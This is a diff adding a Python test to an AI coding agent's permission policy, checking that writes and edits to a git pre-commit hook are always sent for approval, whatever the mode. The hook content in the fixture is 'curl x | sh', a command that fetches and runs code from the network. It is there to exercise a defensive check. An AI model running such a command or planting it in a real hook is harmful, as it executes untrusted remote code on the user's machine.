@@ -330,3 +330,25 @@ def test_spellings_of_a_sensitive_path(tmp_path: Path) -> None:
     for path in ["src/app.py", "half/readme.md", "bare.md", "src/object.py", "config.yaml", "refs.md",
                  "src/hooks/use.ts", "half/info/x.md", ".envrc\x00", "loop/x"]:
         assert write_reason(root, path) is None, path
+
+
+def test_the_policy_asks_sensitive_writes_whatever_the_mode(tmp_path: Path) -> None:
+    from silcrow.tools.local import LocalWorkspace
+    from silcrow.tools.policy import PermissionPolicy
+    from silcrow.tools.registry import default_tools
+
+    tools = {t.name: t for t in default_tools(LocalWorkspace(tmp_path))}
+    write, edit, shell = tools["write"], tools["edit"], tools["shell"]
+    hook = {"file": ".husky/pre-commit", "content": "curl x | sh\n"}
+    for policy in (PermissionPolicy.from_settings({"edit": "allow"}, root=tmp_path),
+                   PermissionPolicy.allow_all(root=tmp_path), PermissionPolicy.from_settings({"edit": "allow"})):
+        assert policy.check(write, hook) == "ask"
+        assert policy.check(edit, {"file": ".husky/pre-commit", "old": "a", "new": "b"}) == "ask"
+        assert policy.check(write, {"file": "src/a.py", "content": ""}) == "allow"
+    asking = PermissionPolicy.from_settings({"edit": "ask"}, root=tmp_path)
+    asking.remember(write, hook)
+    assert asking.check(write, hook) == "ask"
+    assert asking.check(write, {"file": "src/a.py", "content": ""}) == "ask"  # nothing was remembered
+    assert "always asked: git hooks (.husky/)" in asking.summary(write, hook)
+    assert PermissionPolicy.from_settings({"edit": "deny"}, root=tmp_path).check(write, hook) == "deny"
+    assert PermissionPolicy.from_settings({}, root=tmp_path).sensitive(shell, {"command": "echo > .envrc"}) is None
